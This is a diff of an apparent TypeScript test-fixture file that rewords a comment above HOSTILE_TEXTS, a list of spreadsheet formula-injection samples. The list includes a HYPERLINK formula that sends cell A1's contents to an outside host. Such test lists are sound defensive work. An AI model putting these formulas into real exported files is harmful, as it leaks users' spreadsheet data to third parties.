@@ -34,7 +34,7 @@ export function sheetException(over: Partial<SheetException> = {}): SheetExcepti
   };
 }
 
-/** Texts that have hurt somebody's spreadsheet. */
+/** Texts that have hurt spreadsheets. */
 export const HOSTILE_TEXTS = [
   '=1+1',
   '=HYPERLINK("https://example.org?"&A1,"click")',
